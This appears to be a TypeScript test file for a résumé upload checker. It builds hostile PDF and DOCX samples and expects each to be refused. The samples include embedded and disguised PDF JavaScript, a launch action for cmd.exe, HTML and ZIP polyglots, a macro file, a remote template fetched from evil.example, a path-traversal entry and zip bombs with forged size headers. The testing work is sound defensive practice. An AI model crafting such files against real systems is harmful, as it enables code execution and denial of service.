import { strToU8, zipSync, zlibSync } from "fflate";
import { PDFDocument } from "pdf-lib";
import { beforeAll, describe, expect, it } from "vitest";
import { readResumeFile } from "./read";
import { unpack } from "./unpack";

const latin1 = (text: string) => Uint8Array.from(text, (character) => character.charCodeAt(0) & 255);
const joined = (...parts: (string | Uint8Array)[]) =>
  latin1(parts.map((part) => (typeof part === "string" ? part : String.fromCharCode(...part))).join(""));
const faultOf = (bytes: Uint8Array) => {
  const read = readResumeFile(bytes);
  return "fault" in read ? read.fault : null;
};

/** The lightest packing: some of these files are twenty megabytes of one letter. */
const quick = { level: 1 } as const;

/** A small PDF with objects of one's own in it. */
const pdf = (objects = "", before = "%PDF-1.7\n") =>
  latin1(`${before}1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n${objects}\ntrailer <</Root 1 0 R>>\n%%EOF\n`);
const packed = (objects: string, filter = "/Filter/FlateDecode") => {
  const data = zlibSync(strToU8(objects), quick);
  return joined(
    "%PDF-1.7\n5 0 obj\n<</Type/ObjStm/N 1/First 4",
    filter,
    "/Length 9>>\nstream\n",
    data,
    "\nendstream\nendobj\n%%EOF",
  );
};

const parts = {
  "[Content_Types].xml": strToU8(
    '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  ),
  "word/document.xml": strToU8("<w:document/>"),
};
const docx = (more: Record<string, Uint8Array> = {}) => zipSync({ ...parts, ...more }, quick);

/** The places of a zip at which a number of four bytes is, such as a size. */
function placesOf(zip: Uint8Array, value: number): number[] {
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  return Array.from({ length: zip.length - 3 }, (_each, at) => at).filter((at) => view.getUint32(at, true) === value);
}

/** The same zip, which says another size wherever it says this one. */
function declared(zip: Uint8Array, size: number, instead: number): Uint8Array {
  for (const at of placesOf(zip, size)) new DataView(zip.buffer).setUint32(at, instead, true);
  return zip;
}

/** The entries of a zip's directory, as the places at which they begin. */
const entriesOf = (zip: Uint8Array) => placesOf(zip, 0x02014b50);

/** The same zip, whose last entry is another name for the one before it. */
function sharing(zip: Uint8Array): Uint8Array {
  const [first = 0, last = 0] = entriesOf(zip).slice(-2);
  zip.copyWithin(last + 20, first + 20, first + 28);
  zip.copyWithin(last + 42, first + 42, first + 46);
  return zip;
}

/** The same zip, whose last part says another way of packing. */
function repacked(zip: Uint8Array, method: number): Uint8Array {
  new DataView(zip.buffer).setUint16((entriesOf(zip).at(-1) ?? 0) + 10, method, true);
  return zip;
}

/** The same zip, whose last part ends before its end. */
function cut(zip: Uint8Array): Uint8Array {
  new DataView(zip.buffer).setUint32((entriesOf(zip).at(-1) ?? 0) + 20, 5, true);
  return zip;
}

const external =
  '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>';

describe("a résumé file", () => {
  const made: Uint8Array[] = [];
  beforeAll(async () => {
    const document = await PDFDocument.create();
    document.addPage().drawText("Asha Kumari");
    made.push(await document.save({ useObjectStreams: true }), await document.save({ useObjectStreams: false }));
  });

  it("is accepted as a PDF, with and without compressed objects, and as a DOCX", () => {
    expect(made.map(faultOf)).toEqual([null, null]);
    expect(readResumeFile(pdf())).toEqual({ bytes: pdf(), contentType: "application/pdf", ending: ".pdf" });
    expect(readResumeFile(docx())).toMatchObject({ ending: ".docx" });
    expect(faultOf(packed("1 0 <</Type/Page/A<</S/URI/URI(https://asha.example)>>>>"))).toBeNull();
    expect(faultOf(pdf("4 0 obj <</Length 9>>\nstream\nx/JS y/AA \nendstream endobj"))).toBeNull();
    expect(
      faultOf(
        docx({ "word/_rels/settings.xml.rels": strToU8('<Relationship Type="hyperlink" TargetMode="External"/>') }),
      ),
    ).toBeNull();
  });

  it.each<[string, () => Uint8Array, string]>([
    ["nothing", () => new Uint8Array(), "empty"],
    ["more than two megabytes", () => new Uint8Array(2_000_001), "too_big"],
    ["an old Word file", () => latin1("\u00d0\u00cf\u0011\u00e0 word"), "not_a_document"],
    ["HTML", () => latin1("<html>%PDF-1.7 %%EOF"), "web_code"],
    ["a PDF that ends early", () => pdf().slice(0, 60), "broken"],
    ["a PDF with JavaScript", () => pdf("3 0 obj <</S/JavaScript/JS(app.alert(1))>> endobj"), "script"],
    ["a PDF with JavaScript in disguise", () => pdf("3 0 obj <</S/J#61vaScript>> endobj"), "script"],
    ["a PDF that starts programs", () => pdf("3 0 obj <</S/Launch/F(cmd.exe)>> endobj"), "program"],
    ["a PDF that opens with a script", () => pdf("3 0 obj <</OpenAction<</JS 4 0 R>>>> endobj"), "script"],
    ["a PDF with a password", () => pdf("3 0 obj <</Filter/Standard>> endobj trailer<</Encrypt 3 0 R>>"), "locked"],
    ["a PDF with a packed script", () => packed("1 0 <</S/JavaScript/JS(1)>>"), "script"],
    ["a PDF packed in a way that cannot be read", () => packed("1 0 <<>>", "/Filter/LZWDecode"), "hidden"],
    ["a PDF whose packing is named elsewhere", () => packed("1 0 <<>>", "/Filter 9 0 R"), "hidden"],
    ["a PDF that unpacks without end", () => packed("0".repeat(21_000_000)), "unpacks_too_big"],
    ["a PDF that is HTML too", () => pdf("% <html><script>alert(1)</script>"), "web_code"],
    ["a PDF with a page behind its end", () => joined(pdf(), "<p>hello"), "web_code"],
    ["a PDF that is a ZIP too", () => joined(pdf(), zipSync({ "a.txt": strToU8("a") })), "second_file"],
    [
      "a ZIP with a PDF's end",
      () => joined("%PDF-1.7\n", zipSync({ "a.txt": strToU8("a") }).slice(0, -2), "\u0006\u0000", "%%EOF\n"),
      "second_file",
    ],
    ["a ZIP", () => zipSync({ "a.txt": strToU8("a") }), "archive"],
    ["a DOCX with macros", () => docx({ "word/vbaProject.bin": strToU8("x") }), "macro"],
    [
      "a DOCM by its types",
      () => docx({ "[Content_Types].xml": strToU8("<Types>application/vnd.ms-word.document.macroEnabled.main+xml") }),
      "macro",
    ],
    ["a DOCX that fetches a template", () => docx({ "word/_rels/settings.xml.rels": strToU8(external) }), "template"],
    ["a DOCX whose part leads out", () => docx({ "../../evil.sh": strToU8("x") }), "hidden"],
    [
      "a DOCX that unpacks without end",
      () => docx({ "word/media/a.png": new Uint8Array(21_000_000) }),
      "unpacks_too_big",
    ],
    ["a DOCX with words behind its end", () => joined(docx(), "<html>"), "web_code"],
    ["a DOCX that ends early", () => docx().slice(0, 80), "broken"],
    [
      "a DOCX of which a part of 100 MB calls itself ten bytes long",
      () => declared(docx({ "word/media/a.png": new Uint8Array(100_000_000) }), 100_000_000, 10),
      "unpacks_too_big",
    ],
    [
      "a DOCX whose list of types calls itself short",
      () => declared(docx({ "[Content_Types].xml": new Uint8Array(600_000) }), 600_000, 10),
      "unpacks_too_big",
    ],
    [
      "a DOCX of which two parts share their bytes, and unpack to too much together",
      () => sharing(docx({ "word/a.bin": new Uint8Array(12_000_000), "word/b.bin": new Uint8Array() })),
      "unpacks_too_big",
    ],
    ["a DOCX with a part that is packed in a way that cannot be read", () => repacked(docx(), 12), "broken"],
    ["a DOCX with a part that is cut off", () => cut(docx({ "word/a.bin": strToU8("cut ".repeat(1000)) })), "broken"],
  ])("is refused: %s", (_name, bytes, fault) => {
    expect(faultOf(bytes())).toBe(fault);
  });

  it.each<[string, () => Uint8Array]>([
    ["a PDF of streams that never end", () => pdf(">>stream\n".repeat(60_000))],
    ["a PDF of packed objects without a dictionary", () => pdf("/ObjStm stream\nendstream".repeat(8_000))],
    [
      "a DOCX whose relations are one long word",
      () => docx({ "word/_rels/settings.xml.rels": strToU8("attachedTemplate".repeat(30_600)) }),
    ],
  ])("is answered, however it is made: %s", (_name, bytes) => {
    expect([null, "hidden", "broken", "unpacks_too_big"]).toContain(faultOf(bytes()));
  });
});

describe("the limits of a résumé file", () => {
  it("allow two million bytes and no more", () => {
    const filled = (size: number) => {
      const bytes = pdf();
      const end = latin1("\n%%EOF\n");
      const whole = new Uint8Array(size).fill(32);
      whole.set(bytes.subarray(0, bytes.length - end.length));
      whole.set(end, size - end.length);
      return whole;
    };
    expect(faultOf(filled(2_000_000))).toBeNull();
    expect(faultOf(filled(2_000_001))).toBe("too_big");
  });

  it("allow a DOCX of 2,000 parts that unpack to 20 million bytes, and no more", () => {
    const many = (count: number) =>
      Object.fromEntries(Array.from({ length: count }, (_each, index) => [`word/${index}.xml`, new Uint8Array()]));
    expect(faultOf(docx(many(1_998)))).toBeNull();
    expect(faultOf(docx(many(1_999)))).toBe("unpacks_too_big");
    const sizes = Object.values(parts).reduce((sum, part) => sum + part.length, 0);
    expect(faultOf(docx({ "word/media/a.png": new Uint8Array(20_000_000 - sizes) }))).toBeNull();
    expect(faultOf(docx({ "word/media/a.png": new Uint8Array(20_000_001 - sizes) }))).toBe("unpacks_too_big");
  });

  it("allow a list of types of 500,000 bytes, and no more", () => {
    const types = (size: number) => docx({ "[Content_Types].xml": new Uint8Array(size).fill(32) });
    expect(faultOf(types(500_000))).toBeNull();
    expect(faultOf(types(500_001))).toBe("unpacks_too_big");
  });

  it("ask for both the types and the document of a DOCX", () => {
    expect(faultOf(zipSync({ "word/document.xml": parts["word/document.xml"] }))).toBe("archive");
    expect(faultOf(zipSync({ "[Content_Types].xml": parts["[Content_Types].xml"] }))).toBe("archive");
  });
});

describe("decompression", () => {
  const whole = Uint8Array.from({ length: 100_000 }, (_each, index) => (index * 7919) % 251);

  /** One text instead of a hundred thousand numbers, which are slow to compare. */
  const hexOf = (bytes: Uint8Array | null) => bytes && Buffer.from(bytes).toString("hex");

  it("restores the content, up to exactly the allowed size", () => {
    expect(hexOf(unpack(zlibSync(whole), whole.length))).toBe(hexOf(whole));
    expect(unpack(zlibSync(whole), whole.length - 1)).toBeNull();
  });

  it("joins what comes in several portions", () => {
    const noise = crypto.getRandomValues(new Uint8Array(50_000));
    expect(hexOf(unpack(zlibSync(noise), 50_000))).toBe(hexOf(noise));
  });

  it("throws for data that was not compressed", () => {
    expect(() => unpack(latin1("not packed at all"), 1_000)).toThrow();
    expect(() => unpack(zlibSync(whole).slice(0, -100), 1_000_000)).toThrow();
  });
});
